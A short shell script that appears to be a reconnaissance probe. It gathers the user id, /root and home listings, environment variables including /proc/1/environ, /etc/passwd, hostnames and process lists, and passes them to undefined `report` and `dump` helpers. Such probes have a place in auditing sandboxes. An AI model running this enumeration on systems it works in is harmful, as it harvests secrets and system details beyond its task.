# SPDX-License-Identifier: Apache-2.0
# The first thing that anybody tries.
report uid "$(id -u)"
report root-home "$(ls -A /root 2>/dev/null | tr '\n' ',')."
report homes "$(ls -A /home | tr '\n' ',')"
{ cat /proc/1/environ 2>&1; env; cat /proc/self/environ; set; } | dump environments
{ ls -laR /root /home /tmp /run /var/tmp 2>&1; cat /etc/passwd /etc/hosts /etc/hostname 2>&1; } | dump listings
{ uname -a; hostname; cat /proc/sys/kernel/hostname; } 2>&1 | dump names
report own-name "$(uname -n)"
{ ps aux || cat /proc/[0-9]*/cmdline; } 2>/dev/null | dump processes
report users "$(cut -d: -f1 /etc/passwd | tr '\n' ',')"
